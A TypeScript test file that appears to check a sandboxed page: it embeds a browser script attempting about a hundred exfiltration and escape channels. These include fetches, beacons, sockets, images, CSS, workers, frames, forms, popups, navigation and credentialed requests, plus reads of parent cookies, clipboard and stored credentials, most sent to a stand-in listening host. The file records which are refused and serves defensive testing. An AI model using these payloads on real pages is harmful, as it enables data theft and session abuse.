/**
 * What a malicious artifact does when somebody runs it, as the script of its page. Each attack says
 * by its outcome whether it got anything; `FAR` is a server that listens, `OWN` the service, and
 * whatever asks the service for something asks for `leak`. Plain text, for it runs in no module.
 */

/**
 * All at once, but for those that would change what becomes of others; what each came to stands in
 * `window.outcomes`.
 */
export const attacks = String.raw`
const far = (path) => FAR + '/' + path
const own = (path) => OWN + '/' + path
const put = (html) => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box); return box }
const link = (rel, more = '') => put('<link rel="' + rel + '" href="' + far('link-' + rel) + '" ' + more + '>')
const loads = (element, name = 'src', address = far(name)) => new Promise((resolve, reject) => {
  element.onload = () => resolve('loaded'); element.onerror = () => reject(new Error('blocked'))
  element.onloadeddata = element.onload
  element[name] = address; document.body.append(element)
  setTimeout(() => reject(new Error('nothing')), 300)
})
const make = (name, more = {}) => Object.assign(document.createElement(name), more)
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
const styled = (css) => document.head.append(make('style', { textContent: css }))
const answers = (worker) => new Promise((resolve, reject) => {
  worker.onmessage = ({ data }) => data === 'got' ? resolve(data) : reject(new Error(data))
  worker.onerror = () => reject(new Error('blocked'))
  setTimeout(() => reject(new Error('nothing')), 300)
})
const opens = (socket) => new Promise((resolve, reject) => {
  socket.onopen = () => resolve('open'); socket.onerror = () => reject(new Error('blocked'))
})
const asks = (url, options) => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest(); request.open('GET', url)
  Object.assign(request, options); request.onload = () => resolve('got'); request.onerror = () => reject(new Error('blocked'))
  request.send()
})
const submits = (target, action, method) => { const form = put('<form></form>').firstChild
  Object.assign(form, { target, action, method }); form.submit(); return 'nothing' }
const clicks = (more, tag = 'a') => { const a = make(tag, more); document.body.append(a); a.click(); return 'nothing' }
const list = {
  'fetch elsewhere': () => fetch(far('fetch')),
  'fetch elsewhere, unread': () => fetch(far('no-cors'), { mode: 'no-cors' }),
  'fetch that outlives the page': () => fetch(far('keepalive'), { keepalive: true, mode: 'no-cors' }),
  'fetch the service': () => fetch(own('auth/me?leak')),
  'fetch the service with its cookie': () => fetch(own('auth/me?leak'), { credentials: 'include' }),
  'write to the service': () => fetch(own('docs?leak'), { method: 'POST', body: '{"markdown":"x"}' }),
  'write to the service unasked': () => fetch(own('docs?leak'), { method: 'POST', mode: 'no-cors', body: 'x' }),
  'ask elsewhere': () => asks(far('xhr')),
  'ask the service with its cookie': () => asks(own('auth/me?leak'), { withCredentials: true }),
  'ask the service': () => asks(own('auth/me?leak')),
  'ask and wait': () => { const r = new XMLHttpRequest(); r.open('GET', far('sync'), false); r.send() },
  'beacon elsewhere': () => { navigator.sendBeacon(far('beacon'), 'x'); return 'nothing' },
  'beacon to the service': () => { navigator.sendBeacon(own('docs?leak'), 'x'); return 'nothing' },
  'events elsewhere': () => opens(new EventSource(far('events'))),
  'events of the service': () => opens(new EventSource(own('docs?leak'))),
  'socket elsewhere': () => opens(new WebSocket(FAR.replace('http', 'ws'))),
  'socket to the service': () => opens(new WebSocket(OWN.replace('http', 'ws') + '/docs/leak/live')),
  'WebTransport': () => new WebTransport(FAR.replace('http:', 'https:')).ready,
  'image elsewhere': () => loads(make('img')),
  'image of the service': () => loads(make('img'), 'src', own('docs/leak/images/x')),
  'image of a field': () => { put('<input type="image" src="' + far('field') + '">'); return 'nothing' },
  'srcset': () => loads(make('img'), 'srcset', far('srcset') + ' 2x'),
  'image in SVG': () => { put('<svg><image href="' + far('svg') + '"/></svg>'); return 'nothing' },
  'use in SVG': () => { put('<svg><use href="' + far('use') + '#x"/></svg>'); return 'nothing' },
  'background': () => { styled('body{background:url(' + far('background') + ')}'); return 'nothing' },
  'background of a table': () => { put('<table background="' + far('table') + '"><tr><td>x</td></tr></table>'); return 'nothing' },
  'content': () => { styled('h1::after{content:url(' + far('content') + ')}'); return 'nothing' },
  'border by script': () => { document.body.style.borderImage = 'url(' + far('border') + ') 1'; return 'nothing' },
  'cursor and list marks': () => { styled('p{cursor:url(' + far('cursor') + '),auto;list-style:url(' + far('list') + ')}'); return 'nothing' },
  'image-set': () => { styled('h1{background:image-set("' + far('image-set') + '" 1x)}'); return 'nothing' },
  'imported style': () => { styled('@import "' + far('import.css') + '";'); return 'nothing' },
  'fetched font': () => { styled('@font-face{font-family:f;src:url(' + far('font.woff2') + ')}h1{font-family:f}'); return 'nothing' },
  'font by script': () => new FontFace('g', 'url(' + far('face.woff2') + ')').load(),
  'style sheet': () => loads(make('link', { rel: 'stylesheet' }), 'href'),
  'preload': () => { link('preload', 'as=script'); return 'nothing' },
  'prefetch': () => { link('prefetch'); return 'nothing' },
  'prerender': () => { link('prerender'); return 'nothing' },
  'DNS prefetch': () => { link('dns-prefetch'); return 'nothing' },
  'preconnect': () => { link('preconnect'); return 'nothing' },
  'module preload': () => { link('modulepreload'); return 'nothing' },
  'icon': () => { link('icon'); return 'nothing' },
  'manifest': () => { link('manifest'); return 'nothing' },
  'speculation rules': () => { document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [far('speculated')] }] }) })); return 'nothing' },
  'script elsewhere': () => loads(make('script')),
  'script of the service': () => loads(make('script'), 'src', own('assets/leak.js')),
  'script that is written': () => { document.write('<script src="' + far('document-write') + '"><\/script>'); return 'nothing' },
  'module by import': () => import(far('module.js')),
  'module of the service': () => import(own('assets/leak.js')),
  'worker elsewhere': () => answers(new Worker(far('worker.js'))),
  'worker that fetches': () => answers(new Worker(blob('fetch("' + far('worker-fetch') + '").then(() => postMessage("got"), () => postMessage("no"))'))),
  'worker that imports': () => answers(new Worker(blob('try{importScripts("' + far('imported.js') + '");postMessage("got")}catch{postMessage("no")}'))),
  'shared worker': () => { new SharedWorker(own('worker.js?leak')); throw new Error('nothing') },
  'service worker': () => navigator.serviceWorker.register(own('worker.js?leak')),
  'worklet': () => CSS.paintWorklet.addModule(far('worklet.js')),
  'audio': () => loads(make('audio')),
  'video with poster': () => loads(make('video', { poster: far('poster') })),
  'video': () => loads(make('video', { preload: 'auto' })),
  'words of a video': () => { put('<video><track default src="' + far('track') + '"></video>'); return 'nothing' },
  'object': () => { put('<object data="' + far('object') + '"></object>'); return 'nothing' },
  'object of the service': () => { put('<object data="' + own('d/leak') + '"></object>'); return 'nothing' },
  'embed': () => { put('<embed src="' + far('embed') + '">'); return 'nothing' },
  'frame elsewhere': () => { put('<iframe src="' + far('frame') + '"></iframe>'); return 'nothing' },
  'frame of the service': () => { put('<iframe src="' + own('d/leak') + '"></iframe>'); return 'nothing' },
  'frame of srcdoc': () => { put('<iframe srcdoc="&lt;script&gt;fetch(\'' + far('srcdoc') + '\')&lt;/script&gt;&lt;img src=\'' + far('srcdoc-img') + '\'&gt;"></iframe>'); return 'nothing' },
  'frame of data': () => { put('<iframe src="data:text/html,<img src=' + far('data-img') + '>"></iframe>'); return 'nothing' },
  'frame of a script': () => { put('<iframe src="javascript:new Image().src=\'' + far('frame-script') + '\'"></iframe>'); return 'nothing' },
  'frame without a sandbox': () => { const f = make('iframe'); document.body.append(f); return f.contentWindow.fetch(far('fresh')) },
  'form': () => submits('_blank', far('form'), 'post'),
  'form over the page': () => submits('_top', far('form-top'), 'get'),
  'form over the page to the service': () => submits('_top', own('docs?leak'), 'post'),
  'form to the service': () => submits('_blank', own('docs?leak'), 'post'),
  'form in its own place': () => submits('_self', far('form-self'), 'get'),
  'popup': () => { if (window.open(far('popup')) !== null) return 'opened'; throw new Error('none') },
  'popup of the service': () => { if (window.open(own('d/leak')) !== null) return 'opened'; throw new Error('none') },
  'link to a new tab': () => clicks({ href: far('blank'), target: '_blank' }),
  'link over the page': () => clicks({ href: far('top'), target: '_top' }),
  'link over the parent': () => clicks({ href: far('parent-link'), target: '_parent' }),
  'ping of a link': () => clicks({ href: '#here', ping: far('ping') }),
  'download': () => clicks({ href: blob('x', 'text/plain'), download: 'x.txt' }),
  'download elsewhere': () => clicks({ href: far('download'), target: '_blank', download: 'x' }),
  'navigate the page': () => { top.location = far('top-location') },
  'navigate the page by replace': () => { top.location.replace(far('top-replace')) },
  'navigate the parent': () => { parent.location.href = 'javascript:fetch("' + far('parent') + '")' },
  'read the page': () => parent.document.title,
  'read the address of the page': () => parent.location.href,
  'reach the element around': () => { if (window.frameElement === null) throw new Error('none'); return 'got' },
  'read the page from its top': () => top.document.body.innerHTML,
  'read the cookies of the page': () => parent.document.cookie,
  'message to the page': () => { for (const data of ['x', { type: 'event' }, '{"type":"doc_changed"}']) parent.postMessage(data, '*'); return 'nothing' },
  'orders to the page': () => { parent.postMessage({ type: 'navigate', url: far('ordered'), command: 'delete' }, '*'); return 'nothing' },
  'broadcast': () => { new BroadcastChannel('scriptorium').postMessage('x'); return 'nothing' },
  'history of the page': () => { parent.history.pushState({}, '', '/'); },
  'read cookies': () => document.cookie,
  'write cookies': () => { document.cookie = 'session=x' },
  'domain': () => { document.domain = '127.0.0.1' },
  'an address of another': () => history.pushState({}, '', far('pushed')),
  'localStorage': () => localStorage.setItem('x', 'x'),
  'sessionStorage': () => sessionStorage.setItem('x', 'x'),
  'IndexedDB': () => new Promise((resolve, reject) => { const r = indexedDB.open('scriptorium'); r.onsuccess = () => resolve('got'); r.onerror = () => reject(r.error) }),
  'caches': () => caches.open('page'),
  'file system': () => navigator.storage.getDirectory(),
  'cookie store': () => cookieStore.set('session', 'x'),
  'storage access': () => document.requestStorageAccess(),
  'locks': () => navigator.locks.request('x', () => 'got'),
  'dialogs': () => { if (window.prompt('password') === null) throw new Error('none'); return 'got' },
  'clipboard': () => navigator.clipboard.readText(),
  'credentials': () => navigator.credentials.get({ password: true }).then((got) => got === null ? Promise.reject(new Error('none')) : got),
  'place': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('got'), reject)),
  'camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
  'full screen': () => document.documentElement.requestFullscreen(),
  'origin': () => { if (window.origin === 'null') throw new Error('none'); return window.origin },
  'words as a script': () => eval('1'),
  'words as a function': () => new Function('return 1')(),
}
const last = {
  'base': () => { document.head.append(make('base', { href: FAR })); return loads(make('img'), 'src', '/based') },
  'written script': () => { document.body.insertAdjacentHTML('beforeend', '<img src="' + far('written') + '" srcset="' + far('written-set') + '">'); return 'nothing' },
  'report': () => { document.head.append(make('meta', { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + far('report') })); return loads(make('img'), 'src', 'data:,x') },
}
window.outcomes = {}
const attempt = async ([name, attack]) => {
  const late = new Promise((_, reject) => setTimeout(() => reject(new Error('late')), 1000))
  try { window.outcomes[name] = (await Promise.race([attack(), late])) ?? 'done' }
  catch (error) { window.outcomes[name] = 'refused' }
}
const run = async () => {
  await Promise.all(Object.entries(list).map(attempt))
  for (const one of Object.entries(last)) await attempt(one)
  window.isDone = true
}
run()
`

/** Attacks after which the page that tries them is not there any more, each a script of its own. */
export const departures: readonly string[] = [
  'location.href = FAR + "/away"',
  'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + FAR + "/refresh"; document.head.append(m)',
  'location.replace(OWN + "/d/leak")',
]
